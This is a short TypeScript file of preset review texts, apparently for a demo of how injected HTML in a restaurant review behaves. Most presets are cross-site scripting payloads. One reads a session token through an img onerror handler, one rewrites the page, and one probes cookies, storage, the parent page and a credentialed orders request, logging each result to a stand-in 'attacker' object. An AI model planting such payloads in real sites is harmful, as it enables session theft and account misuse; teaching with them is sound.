/** Reviews to begin with. The last one finds out what the stage can reach. */
export const presets = [
  {
    id: 'steal',
    name: 'Take the session',
    text: `The egg alone is worth it. <img src=x onerror="attacker.log(document.querySelector('meta[name=session]').content)">`,
  },
  {
    id: 'script',
    name: 'Rewrite the page',
    text: `<script>\ndocument.querySelector('h1').textContent = 'This kitchen is closed'\nalert('rewritten')\n</script>`,
  },
  {
    id: 'harmless',
    name: 'Harmless markup',
    text: 'The egg alone is <b>worth it</b>.',
  },
  {
    id: 'reach',
    name: 'Reach for this site',
    text: `<script>
const reach = {
  cookies: () => document.cookie,
  storage: () => localStorage.length,
  'the page around it': () => parent.document.title,
}
for (const [name, look] of Object.entries(reach))
  try { attacker.log(name + ': ' + look()) }
  catch (error) { attacker.log(name + ': ' + error.name) }
fetch('/api/orders', { credentials: 'include' }).then(
  (reply) => attacker.log('your orders: ' + reply.status),
  (error) => attacker.log('your orders: ' + error.name),
)
</script>`,
  },
] as const
